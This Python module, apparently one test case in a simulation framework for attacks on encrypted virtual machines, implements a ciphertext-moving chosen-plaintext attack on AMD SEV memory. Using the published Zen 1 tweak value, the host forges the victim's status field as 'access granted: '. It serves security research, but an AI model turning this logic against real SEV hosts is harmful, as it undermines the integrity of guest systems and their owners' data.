"""A chosen plaintext by moving ciphertext (row 16a; Du et al. 2017, SEVurity 2020).

The victim stores what it receives. Block by block, memory is AES(m ^ T(p)),
with ^ T(p) outside too where the mode is XEX. T is linear and on Zen 1 known:
moved from p to q, a block decrypts to m ^ T(p ^ q). So the attacker sends his
text XORed with T(p ^ q), and moves it over the status that the victim keeps in
the same line. Distance 64 is address bit 6 alone.
"""

from __future__ import annotations

from node.operations import HostRead, HostWrite
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, Target
from workloads.attacks.vault import CONTENT_BYTES, STATUS_OFFSET

ZEN1_TWEAK_OF_BIT_6 = bytes.fromhex("40000018") * (CONTENT_BYTES // 4)
"""As its discoverers published it (SEVurity): four bytes, repeated."""
CHOSEN = (b"access granted: " * CONTENT_BYTES)[:CONTENT_BYTES]
_NOTHING = bytes(CONTENT_BYTES)

_WAYS = (
    (ZEN1_TWEAK_OF_BIT_6, ZEN1_TWEAK_OF_BIT_6),  # XEX
    (ZEN1_TWEAK_OF_BIT_6, _NOTHING),  # XE
    (_NOTHING, _NOTHING),  # no tweak, or no encryption that the mover sees
)
"""What to XOR the text with that is sent, and the ciphertext that is moved."""


def place_chosen_text(target: Target) -> Attack:
    """Row 16a: make the victim read ``CHOSEN`` where its status is, whichever way its memory is encrypted."""
    victim = target.victim
    for sent, moved in _WAYS:
        yield (HostWrite(victim.inbox.spa, _xor(CHOSEN, sent), encrypted=victim.c_bit),)
        yield WRITE_BACK
        yield LET_IT_RUN
        yield WRITE_BACK
        (blocks,) = yield (HostRead(victim.request.spa, CONTENT_BYTES),)
        if not isinstance(blocks, bytes):
            return
        yield (HostWrite(victim.request.spa + STATUS_OFFSET, _xor(blocks, moved)),)
        yield WRITE_BACK
        yield LET_IT_RUN
        yield WRITE_BACK


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes([a ^ b for a, b in zip(one, other, strict=True)])
